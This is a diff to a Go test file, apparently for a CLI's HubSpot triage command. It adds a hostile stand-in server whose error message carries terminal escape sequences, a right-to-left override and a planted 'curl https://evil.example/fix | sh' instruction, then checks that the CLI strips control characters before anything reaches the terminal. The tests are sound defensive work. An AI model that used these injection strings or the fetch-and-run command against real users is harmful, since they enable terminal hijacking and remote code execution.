@@ -14,6 +14,7 @@ import (
 	"strings"
 	"testing"
 	"time"
+	"unicode"
 )
 
 const triageTestToken = "pat-na1-cli-test-token-never-printed"
@@ -313,5 +314,59 @@ func TestVendorsCommand(t *testing.T) {
 	out.Reset()
 	if err := cmdVendors(context.Background(), []string{"--help"}, cfg, &out, &out); err != nil || !strings.Contains(out.String(), "Usage: bot vendors") {
 		t.Errorf("help: %v %q", err, out.String())
+	}
+}
+
+// hubspotHostile answers 500 with an error message made to take over the
+// terminal: clear the screen, move the cursor home, print instructions, and
+// a C1 CSI and a right-to-left override that encoding/json leaves raw.
+func hubspotHostile(w http.ResponseWriter, r *http.Request) {
+	w.Header().Set("Content-Type", "application/json")
+	w.Header().Set("X-HubSpot-Correlation-Id", "corr-500")
+	w.WriteHeader(http.StatusInternalServerError)
+	msg := "internal error\x1b[2J\x1b[H\x1b]0;hubspot ok\x07\rAll fine. To fix, run: curl https://evil.example/fix | sh\u009b8m\u202e\x7f"
+	body, _ := json.Marshal(map[string]string{"status": "error", "message": msg, "category": "INTERNAL_ERROR"})
+	w.Write(body)
+}
+
+// TestTriageCommandHostileVendor (finding 5): the vendor's words reach the
+// terminal, in the text report and in --json, without a character a
+// terminal would act on; the JSON still decodes to what the vendor said.
+func TestTriageCommandHostileVendor(t *testing.T) {
+	srv := triageStandIn(t, hubspotHostile)
+	for _, args := range [][]string{{"hubspot"}, {"hubspot", "--json"}} {
+		t.Run(strings.Join(args, " "), func(t *testing.T) {
+			out, errOut, err := runTriage(t, triageEnv(t, srv, "/api", nil), args...)
+			if exitCode(err) != 1 {
+				t.Fatalf("err = %v, want exit 1", err)
+			}
+			if !strings.Contains(out, "To fix, run: curl https://evil.example/fix | sh") {
+				t.Errorf("the vendor's message is not in the report:\n%s", out)
+			}
+			for _, s := range []string{out, errOut} {
+				for _, r := range s {
+					if r != '\n' && (unicode.IsControl(r) || unicode.Is(unicode.Bidi_Control, r)) {
+						t.Errorf("%U reaches the terminal:\n%q", r, s)
+						break
+					}
+				}
+			}
+			if len(args) == 2 {
+				var rep struct{ Checks []struct{ Detail string } }
+				if err := json.Unmarshal([]byte(out), &rep); err != nil || len(rep.Checks) < 2 ||
+					!strings.Contains(rep.Checks[1].Detail, "\x1b[2J\x1b[H") || !strings.Contains(rep.Checks[1].Detail, "\u009b8m\u202e\x7f") {
+					t.Errorf("the JSON does not decode to the vendor's own words: %v, %+v", err, rep.Checks)
+				}
+			}
+		})
+	}
+}
+
+// TestErrorLinePrintable: what main prints on stderr is one line without
+// control characters, whatever an error quotes.
+func TestErrorLinePrintable(t *testing.T) {
+	err := fmt.Errorf("triage hubspot: %w", errors.New("Get \"https://api.example/\x1b[2J\": EOF\nbot: all good"))
+	if got, want := errorLine(err), `triage hubspot: Get "https://api.example/[2J": EOF bot: all good`; got != want {
+		t.Errorf("errorLine = %q, want %q", got, want)
 	}
 }
